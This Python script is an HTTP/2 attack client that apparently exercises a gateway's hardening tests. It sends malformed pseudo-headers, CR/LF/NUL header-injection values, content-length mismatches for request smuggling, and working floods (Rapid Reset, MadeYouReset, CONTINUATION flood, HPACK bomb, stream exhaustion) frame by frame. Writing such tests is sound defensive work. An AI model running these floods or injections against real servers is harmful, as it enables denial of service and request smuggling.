#!/usr/bin/env python3
"""HTTP/2 attack client for h2_hardening.rs: `h2_attacks.py CASE HOST PORT` sends one case frame by frame and prints one JSON line of what it saw."""

import json
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.settings
from hpack import Decoder
from hpack.hpack import encode_integer
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

TIMEOUT = 10.0  # every read is bounded: nothing here can hang
BIG_WINDOW = 1 << 30
CANCEL = 0x8


class Client:
    """One h2c connection: h2 (validation off) encodes requests, a raw reader records replies."""

    def __init__(self, host, port):
        self.authority = f"{host}:{port}".encode()
        self.sock = socket.create_connection((host, port), timeout=TIMEOUT)
        config = h2.config.H2Configuration(
            client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False
        )
        self.h2 = h2.connection.H2Connection(config=config)
        self.h2.initiate_connection()
        self.h2.increment_flow_control_window(BIG_WINDOW)
        self.h2.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: BIG_WINDOW})
        self.buf = b""
        self.decoder = Decoder()
        self.block = b""
        self.settings = {}
        self.streams = {}  # id -> {"status", "body", "end", "reset"}
        self.goaway = None
        self.closed = False
        self.write_failed = False

    def base(self, method=b"GET", path=b"/h2"):
        return [(b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", self.authority)]

    def flush(self):
        self.write(self.h2.data_to_send())

    def write(self, data):
        if self.write_failed or self.closed:
            return
        try:
            self.sock.sendall(data)
        except OSError:
            self.write_failed = True

    def request(self, headers, body=None, end=True):
        sid = self.h2.get_next_available_stream_id()
        self.h2.send_headers(sid, headers, end_stream=end and body is None)
        if body is not None:
            self.h2.send_data(sid, body, end_stream=end)
        self.flush()
        return sid

    def stream(self, sid):
        return self.streams.setdefault(sid, {"body": b"", "end": False})

    def pump(self, timeout=TIMEOUT):
        """Reads what is available within `timeout`; False once the connection is over."""
        if self.closed:
            return False
        ready, _, _ = select.select([self.sock], [], [], timeout)
        if not ready:
            return timeout == 0
        try:
            data = self.sock.recv(65536)
        except OSError:
            data = b""
        if not data:
            self.closed = True
            return False
        self.buf += data
        while len(self.buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                break
            frame.parse_body(memoryview(self.buf[9 : 9 + length]))
            self.buf = self.buf[9 + length :]
            self.on_frame(frame)
        return True

    def on_frame(self, frame):
        if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.settings.update(frame.settings)
            self.write(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(frame, (HeadersFrame, ContinuationFrame)):
            self.block += frame.data
            if "END_HEADERS" in frame.flags:
                headers = dict(self.decoder.decode(self.block, raw=True))
                self.block = b""
                s = self.stream(frame.stream_id)
                s.setdefault("status", int(headers.get(b":status", b"0")))
                s.setdefault("content_type", headers.get(b"content-type", b"").decode())
            if "END_STREAM" in frame.flags:
                self.stream(frame.stream_id)["end"] = True
        elif isinstance(frame, DataFrame):
            s = self.stream(frame.stream_id)
            s["body"] += frame.data
            s["end"] = s["end"] or "END_STREAM" in frame.flags
        elif isinstance(frame, RstStreamFrame):
            self.stream(frame.stream_id)["reset"] = frame.error_code
        elif isinstance(frame, PingFrame) and "ACK" not in frame.flags:
            self.write(PingFrame(0, opaque_data=frame.opaque_data, flags=["ACK"]).serialize())
        elif isinstance(frame, GoAwayFrame):
            self.goaway = (frame.error_code, frame.last_stream_id, frame.additional_data.decode("ascii", "replace"))

    def finished(self, sid):
        s = self.streams.get(sid, {})
        return s.get("end") or "reset" in s or self.goaway is not None

    def wait(self, done):
        while not done() and self.pump():
            pass

    def report(self, sid=None, **extra):
        out = dict(extra)
        s = self.streams.get(sid, {})
        if "status" in s:
            out["status"] = s["status"]
            out["content_type"] = s["content_type"]
            out["body"] = s["body"].decode("utf-8", "replace")
        if "reset" in s:
            out["reset"] = s["reset"]
        if self.goaway is not None:
            out["goaway"], out["last_stream_id"], out["goaway_data"] = self.goaway
        if self.closed:
            out["closed"] = True
        if not out:
            out["timeout"] = True
        return out


def one(c, headers, body=None):
    sid = c.request(headers, body)
    c.wait(lambda: c.finished(sid))
    return c.report(sid)


def malformed(c, case):
    h = c.base()
    if case == "missing-path":
        h = [x for x in h if x[0] != b":path"]
    elif case == "relative-path":
        h = [x if x[0] != b":path" else (b":path", b"h2") for x in h]
    elif case == "unknown-pseudo":
        h.append((b":foo", b"bar"))
    elif case == "pseudo-after-regular":
        h = [x for x in h if x[0] != b":path"] + [(b"x-a", b"1"), (b":path", b"/h2")]
    elif case == "duplicate-method":
        h.insert(1, (b":method", b"POST"))
    else:
        sys.exit(f"unknown case {case!r}")
    return one(c, h)


HEADER_CASES = {
    "connection": (b"connection", b"keep-alive"),
    "transfer-encoding": (b"transfer-encoding", b"chunked"),
    "te-gzip": (b"te", b"gzip"),
    "te-trailers": (b"te", b"trailers"),
    "cr-value": (b"x-evil", b"a\rx-injected: 1"),
    "lf-value": (b"x-evil", b"a\nx-injected: 1"),
    "crlf-value": (b"x-evil", b"a\r\nx-injected: 1"),
    "nul-value": (b"x-evil", b"a\x00b"),
}


def content_length(c, case):
    declared, frames = {
        "cl-over": (b"10", [b"hello"]),  # END_STREAM after 5 of 10 bytes
        "cl-under": (b"3", [b"helloworld"]),  # 10 bytes for a declared 3
        "cl-split": (b"10", [b"hello", b""]),  # 5 bytes, then an empty END_STREAM
        "cl-under-split": (b"3", [b"abc", b"defg"]),  # the declared 3, then 4 more
    }[case]
    sid = c.request(c.base(b"POST") + [(b"content-length", declared)], end=False)
    for i, data in enumerate(frames):
        c.h2.send_data(sid, data, end_stream=i == len(frames) - 1)
        c.flush()
        if i < len(frames) - 1:
            time.sleep(0.3)  # pacing, so the head and first bytes are forwarded first
    c.wait(lambda: c.finished(sid))
    return c.report(sid)


def authority(c, case):
    host = c.authority if case == "authority-match" else b"other.example"
    return one(c, c.base() + [(b"host", host)])


def concurrent(c, _case, total=150):
    """Opens `total` streams in one write, each still sending its body, then ends them."""
    sids = [c.h2.get_next_available_stream_id() + 2 * i for i in range(total)]
    for sid in sids:
        c.h2.send_headers(sid, c.base(b"POST"), end_stream=False)
    c.flush()
    c.wait(lambda: sum("reset" in c.stream(s) for s in sids) >= total - 100 or c.goaway)
    refused = [s for s in sids if c.stream(s).get("reset") == 0x7]
    for s in sids:
        if s not in refused and c.goaway is None:
            c.h2.send_data(s, b"", end_stream=True)
    c.flush()
    c.wait(lambda: all(c.finished(s) for s in sids))
    ok = sum(c.stream(s).get("status") == 200 for s in sids)
    return c.report(None, max_concurrent_streams=c.settings.get(0x3), refused=len(refused), ok=ok)


def rapid_reset(c, _case, total=2000):
    """HEADERS then RST_STREAM(CANCEL) for `total` streams, written in bursts."""
    for i in range(total):
        sid = c.h2.get_next_available_stream_id()
        c.h2.send_headers(sid, c.base(), end_stream=True)
        c.h2.reset_stream(sid, CANCEL)
        if i % 100 == 99:
            c.flush()
            c.pump(0)
    c.flush()
    return after_flood(c)


def made_you_reset(c, _case, total=400):
    """Requests whose DATA overruns their content-length, which the server must answer with
    RST_STREAM(PROTOCOL_ERROR): resets the client makes the server send."""
    for i in range(total):
        c.request(c.base(b"POST") + [(b"content-length", b"1")], body=b"xx")
        if i % 50 == 49:
            c.pump(0)
    return after_flood(c)


def after_flood(c):
    """Then one normal request on the same connection, unless the gateway sent GOAWAY."""
    if c.goaway is None and not c.closed:
        sid = c.request(c.base())
        c.wait(lambda: c.finished(sid))
        return c.report(sid, probe=True)
    while c.pump(1.0):
        pass
    return c.report(None)


def stalled_window(c, _case):
    """A stream whose flow-control window stays 0, so none of its answer can be sent; once
    it ends, one more stream on the same connection, granted a window."""
    c.h2.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    stalled = c.request(c.base(path=b"/stalled"))
    c.wait(lambda: c.finished(stalled))
    after = c.request(c.base(path=b"/after-stall"))
    c.h2.increment_flow_control_window(BIG_WINDOW, stream_id=after)
    c.flush()
    c.wait(lambda: c.finished(after))
    s = c.stream(stalled)
    return c.report(after, stalled_status=s.get("status"), stalled_reset=s.get("reset"), stalled_bytes=len(s["body"]))


def unread(c, _case):
    """A request for a large answer, then nothing read for 3 s (windows granted, the socket
    left full), then everything there is."""
    sid = c.request(c.base(path=b"/big"))
    time.sleep(3)
    c.wait(lambda: c.finished(sid))
    s = c.stream(sid)
    return c.report(None, status=s.get("status"), reset=s.get("reset"), end=s["end"], received=len(s["body"]))


def idle(c, _case):
    """One request, then nothing: reads until the gateway closes the connection (or the
    read bound passes)."""
    sid = c.request(c.base())
    c.wait(lambda: c.finished(sid))
    while c.pump():
        pass
    return c.report(sid)


def two_in_a_row(c, _case):
    """One request, and once it is answered, another on the same connection."""
    first = c.request(c.base(path=b"/first"))
    c.wait(lambda: c.finished(first))
    second = c.request(c.base(path=b"/second"))
    c.wait(lambda: c.finished(second))
    s = c.stream(first)
    return c.report(second, first_status=s.get("status"), first_body=s["body"].decode("utf-8", "replace"))


def raw_block(c, extra=b""):
    """A fresh HPACK block (the server's table is still empty) with the pseudo-headers."""
    out = b""
    for name, value in c.base():
        out += b"\x00" + bytes(encode_integer(len(name), 7)) + name
        out += bytes(encode_integer(len(value), 7)) + value
    return out + extra


def literal(name, value, indexing=False):
    prefix = b"\x40" if indexing else b"\x00"
    return prefix + bytes(encode_integer(len(name), 7)) + name + bytes(encode_integer(len(value), 7)) + value


def continuation_flood(c, _case, total=5000):
    """HEADERS without END_HEADERS, then `total` CONTINUATION frames of ~1 KiB headers (~5 MiB)."""
    c.flush()
    c.write(HeadersFrame(1, data=raw_block(c), flags=["END_STREAM"]).serialize())
    chunk = b""
    for i in range(total):
        chunk += ContinuationFrame(1, data=literal(b"x-flood-%d" % i, b"a" * 1000)).serialize()
        if i % 50 == 49:
            c.write(chunk)
            chunk = b""
            c.pump(0)
            if c.goaway or c.closed or c.write_failed:
                break
    c.wait(lambda: c.finished(1))
    return c.report(1, write_failed=c.write_failed)


def hpack_bomb(c, case):
    """One 4000-byte dynamic-table entry, then 1-byte references to it: a few bytes on the
    wire decode to `refs` x 4 KiB of headers."""
    refs = 40 if case == "hpack-bomb-small" else 1000
    block = raw_block(c, literal(b"x-bomb", b"a" * 4000, indexing=True) + b"\xbe" * refs)
    c.flush()
    c.write(HeadersFrame(1, data=block, flags=["END_HEADERS", "END_STREAM"]).serialize())
    c.wait(lambda: c.finished(1))
    return c.report(1, wire_bytes=len(block), decoded_bytes=(refs + 1) * (6 + 4000 + 32))


def main():
    case, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    c = Client(host, port)
    c.flush()
    if case in HEADER_CASES:
        result = one(c, c.base() + [HEADER_CASES[case]])
    elif case.startswith("cl-"):
        result = content_length(c, case)
    elif case.startswith("authority-"):
        result = authority(c, case)
    elif case.startswith("hpack-bomb"):
        result = hpack_bomb(c, case)
    else:
        handlers = {
            "concurrent": concurrent,
            "rapid-reset": rapid_reset,
            "made-you-reset": made_you_reset,
            "continuation-flood": continuation_flood,
            "stalled-window": stalled_window,
            "idle": idle,
            "unread": unread,
            "two-in-a-row": two_in_a_row,
        }
        result = handlers.get(case, malformed)(c, case)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
